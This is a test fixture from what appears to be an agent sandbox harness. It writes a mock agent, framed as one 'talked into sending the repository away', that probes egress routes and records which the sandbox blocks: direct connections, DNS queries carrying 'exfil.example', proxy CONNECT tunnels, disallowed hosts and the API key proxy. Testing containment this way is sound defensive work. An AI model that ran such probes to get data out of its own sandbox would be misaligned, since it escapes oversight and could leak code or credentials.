import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * An agent talked into sending the repository away, standing in for Claude Code (AGENT_COMMAND).
 * It tries each way out and writes what each gave to NET_REPORT (JSON):
 *
 * - `direct`: a connection, then an HTTP request, to the outside host (NET_OUTSIDE) itself;
 * - `dns`: a query to the resolver stand-in (NET_DNS, port 53) over UDP and TCP, and to the
 *   runner's usual resolver addresses;
 * - `dnsDirect`: with NET_DNS_PORT, the same to that port of the stand-in (where a resolver that
 *   port 53 is forwarded to listens);
 * - `viaConnect`, `viaAbsolute`: the outside host through the proxy its environment names
 *   (`CONNECT` to port 443 and TLS, checked with NET_CA, for https; an absolute URL for http),
 *   when it names one;
 * - `plainViaConnect`: plain HTTP to the outside host's port 80 through a `CONNECT` tunnel, which
 *   a proxy that checks what a tunnel carries closes (`200 closed`);
 * - `refused`: hosts not on the list through that proxy (one asked twice);
 * - `keyProxy`: a request to its model API through the worker's key proxy, on loopback.
 *
 * With NET_SYNC (a folder) it meets a peer named NET_PEER there: it says `net-agent: ready
 * <user> <uid>`, waits for the peer's `ready`, tries everything, then waits for the peer's
 * `done` before it ends, so that both run at once. NET_CRASH: it kills itself at the end.
 */
const SCRIPT = String.raw`
const fs = require('node:fs');
const net = require('node:net');
const http = require('node:http');
const tls = require('node:tls');
const dgram = require('node:dgram');
const path = require('node:path');
const env = process.env;

const tcp = (host, port) => new Promise((resolve) => {
  const socket = net.connect({ host, port });
  socket.once('connect', () => { socket.destroy(); resolve('connected'); });
  socket.once('error', (e) => resolve(e.code));
});
const read = (res, resolve) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (c) => (body += c));
  res.on('end', () => resolve(res.statusCode + ' ' + body.trim()));
};
const get = (options) => new Promise((resolve) => {
  http.get({ agent: false, ...options }, (res) => read(res, resolve)).on('error', (e) => resolve(e.code));
});
const udp = (host, port) => new Promise((resolve) => {
  const socket = dgram.createSocket('udp4');
  let settled = false;
  const done = (result) => { if (settled) return; settled = true; socket.close(); resolve(result); };
  socket.on('error', (e) => done(e.code));
  socket.on('message', () => done('answered'));
  socket.connect(port, host, () => socket.send('exfil.example', (e) => e && done(e.code)));
  setTimeout(() => done('no answer'), 5000);
});
// With ca, TLS inside the tunnel; else plain HTTP, whose tunnel closing is 'closed'.
const connectVia = (proxy, host, port, target, ca) => new Promise((resolve) => {
  const p = new URL(proxy);
  const req = http.request({ host: p.hostname, port: p.port, method: 'CONNECT', path: host + ':' + port, agent: false });
  req.on('connect', (res, socket) => {
    if (res.statusCode !== 200) { socket.destroy(); return resolve(String(res.statusCode)); }
    const stream = ca ? tls.connect({ socket, host, ca }) : socket;
    let text = '';
    let error = '';
    stream.on('error', (e) => (error = ca ? e.code : ''));
    stream.write('GET ' + target + ' HTTP/1.1\r\nHost: ' + host + '\r\nConnection: close\r\n\r\n');
    stream.on('data', (c) => (text += c));
    stream.on('close', () => resolve('200 ' + (text ? (text.split('\r\n\r\n')[1] ?? '').trim() : error || 'closed')));
  });
  req.on('response', (res) => resolve(String(res.statusCode)));
  req.on('error', (e) => resolve(e.code));
  req.end();
});
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const waitFor = async (file) => {
  for (let i = 0; i < 1200 && !fs.existsSync(file); i++) await sleep(50);
};

(async () => {
  const sync = env.NET_SYNC;
  const self = env.NET_SELF;
  if (sync) {
    fs.writeFileSync(path.join(sync, self + '-ready'), '');
    console.log('net-agent: ready ' + env.USER + ' ' + process.getuid());
    await waitFor(path.join(sync, env.NET_PEER + '-ready'));
  }
  const outside = env.NET_OUTSIDE;
  const report = {
    uid: process.getuid(),
    proxyEnv: Object.fromEntries(['HTTPS_PROXY', 'HTTP_PROXY', 'https_proxy', 'http_proxy', 'NO_PROXY', 'no_proxy'].map((k) => [k, env[k] ?? null])),
  };
  report.direct = [await tcp(outside, 80), await get({ host: outside, port: 80, path: '/direct' })];
  report.dns = [
    await udp(env.NET_DNS, 53),
    await tcp(env.NET_DNS, 53),
    await udp('127.0.0.53', 53),
    await udp('127.0.0.1', 53),
  ];
  if (env.NET_DNS_PORT) {
    const port = Number(env.NET_DNS_PORT);
    report.dnsDirect = [await udp(env.NET_DNS, port), await tcp(env.NET_DNS, port)];
  }
  const proxy = env.HTTPS_PROXY;
  if (proxy) {
    report.viaConnect = await connectVia(proxy, outside, 443, '/via-connect', fs.readFileSync(env.NET_CA));
    report.plainViaConnect = await connectVia(proxy, outside, 80, '/plain-via-connect');
    const p = new URL(env.HTTP_PROXY);
    report.viaAbsolute = await get({ host: p.hostname, port: p.port, path: 'http://' + outside + '/via-absolute' });
    report.refused = [
      await connectVia(proxy, 'exfil.example', 443, '/'),
      await connectVia(proxy, 'exfil.example', 443, '/'),
      await get({ host: p.hostname, port: p.port, path: 'http://203.0.113.9/' }),
    ];
  }
  if (env.ANTHROPIC_BASE_URL) {
    const base = new URL(env.ANTHROPIC_BASE_URL);
    report.keyProxy = await get({ host: base.hostname, port: base.port, path: '/v1/models', headers: { 'x-api-key': env.ANTHROPIC_API_KEY } });
  }
  fs.writeFileSync(env.NET_REPORT, JSON.stringify(report));
  fs.writeFileSync('feature.txt', 'networked\n');
  if (sync) {
    fs.writeFileSync(path.join(sync, self + '-done'), '');
    await waitFor(path.join(sync, env.NET_PEER + '-done'));
  }
  if (env.NET_CRASH) process.kill(process.pid, 'SIGKILL');
  console.log(JSON.stringify({ type: 'result', subtype: 'success', is_error: false, result: 'Tried the network.', total_cost_usd: 0, usage: { input_tokens: 0, output_tokens: 0 } }));
})();
`;

/** Writes the agent into `dir` (which the agent's user may pass through); its AGENT_COMMAND. */
export function writeNetworkAgent(dir: string): string {
  const file = join(dir, 'network-agent.cjs');
  writeFileSync(file, SCRIPT, { mode: 0o644 });
  return `"${process.execPath}" "${file}"`;
}
